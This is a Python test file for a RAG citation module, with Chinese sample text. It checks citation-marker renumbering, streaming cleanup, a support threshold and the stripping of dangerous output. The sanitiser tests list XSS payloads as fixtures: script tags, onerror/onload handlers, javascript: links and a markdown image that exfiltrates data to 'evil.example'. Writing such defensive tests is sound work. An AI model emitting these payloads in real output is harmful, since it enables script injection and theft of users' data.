"""Citation mapping, stream cleaning, dangerous-output stripping and the measured support threshold."""

from __future__ import annotations

import random

import pytest
from fakes import make_corpus

from rag import citations as cit

ESSAYS, CHUNKS = make_corpus()


def test_markers_are_renumbered_by_first_use_and_unknown_ones_removed() -> None:
    m = cit.MarkerMap(CHUNKS[:3])
    out = m.apply("甲[3]。乙[1][9]。丙【3】。丁[1,2]。戊[0]。")
    assert out == "甲[1]。乙[2]。丙[1]。丁[2][3]。戊。"
    assert [c.id for _, c in m.cited()] == [CHUNKS[2].id, CHUNKS[0].id, CHUNKS[1].id]


def test_marker_ranges_and_source_words() -> None:
    m = cit.MarkerMap(CHUNKS[:4])
    assert m.apply("甲[1-3]。乙[资料4]。") == "甲[1][2][3]。乙[4]。"


@pytest.mark.parametrize("bad", [
    "<script>alert(1)</script>",
    '<img src=x onerror="fetch(1)">',
    "[点我](javascript:alert(1))",
    "![x](http://evil.example/collect?d=secret)",
    "<a href='javascript:void(0)'>链接</a>",
    "<svg onload=alert(1)>",
    "[ref]: http://evil.example/x.png",
])
def test_dangerous_output_is_stripped(bad: str) -> None:
    out = cit.sanitize(f"正常内容[1]。{bad}结尾。")
    low = out.lower()
    for needle in ("<script", "onerror", "onload", "javascript:", "evil.example", "<img", "<svg", "![", "<a "):
        assert needle not in low
    assert out.startswith("正常内容[1]。") and out.endswith("结尾。")


def test_stream_cleaner_emits_prefixes_of_the_final_text() -> None:
    raw = ("资料显示：<script>steal()</script>科技水平高[2]。还有[7]无效标记。"
           "![img](http://evil.example/a.png)见[点击](javascript:x)。最后一句[1]")
    rng = random.Random(7)
    for _ in range(30):
        cleaner = cit.StreamCleaner(CHUNKS[:3])
        shown = ""
        i = 0
        while i < len(raw):
            j = i + rng.randint(1, 6)
            shown += cleaner.feed(raw[i:j])
            i = j
        shown += cleaner.finish()
        assert shown == cleaner.emitted
        assert shown == cit.MarkerMap(CHUNKS[:3]).apply(cit.sanitize(raw))
        assert "steal" not in shown and "evil" not in shown and "javascript" not in shown
        assert "[7]" not in shown and shown.count("[1]") == 1


def test_check_builds_citations_only_for_cited_sources() -> None:
    c0, c1 = CHUNKS[0], CHUNKS[2]
    text = "绿色转型是制造业高质量发展的必由之路[1]。企业应当淘汰高耗能设备[2]。这句没有引用。"
    checked = cit.check(text, [(1, c0), (2, c1)])
    assert [c.n for c in checked.citations] == [1, 2]
    assert all(c.supported for c in checked.citations)
    assert checked.citations[0].sentences == ("绿色转型是制造业高质量发展的必由之路。",)


def test_unsupported_sentence_is_flagged_and_rendered() -> None:
    checked = cit.check("量子计算将彻底取代传统芯片产业[1]。", [(1, CHUNKS[0])])
    assert checked.citations[0].supported is False
    refs = cit.render_references(checked.citations)
    assert "（未核实）" in refs and CHUNKS[0].label in refs


# The support threshold, measured: faithful paraphrases of a passage (left) must pass, sentences citing a
# passage that does not say them (right, each the paraphrase of another passage) must not.
PROBES = [
    ("绿色转型是制造业高质量发展的必经之路，我国要走绿色工业化道路。", 0),
    ("西方工业化大多先污染、后治理。", 0),
    ("要从三个方面推进绿色转型。", 1),
    ("企业要淘汰高耗能设备并推广清洁生产。", 2),
    ("应当建立废旧物资的回收体系，提高资源的综合利用率。", 3),
    ("要用标准来引导企业进行绿色设计与绿色制造。", 4),
    ("欠发达地区可以利用数字技术缩小同发达地区的差距。", 5),
    ("地方政府要统筹布局算力网络，防止重复建设。", 6),
    ("要建立多层次数字技能培训体系并吸引领军人才。", 7),
]


def test_support_threshold_separates_paraphrases_from_misattributions() -> None:
    faithful = [cit.support(s, [CHUNKS[i].text]) for s, i in PROBES]
    wrong = [cit.support(s, [CHUNKS[(i + 3) % len(CHUNKS)].text]) for s, i in PROBES]
    assert min(faithful) >= cit.SUPPORT_THRESHOLD > max(wrong), (faithful, wrong)
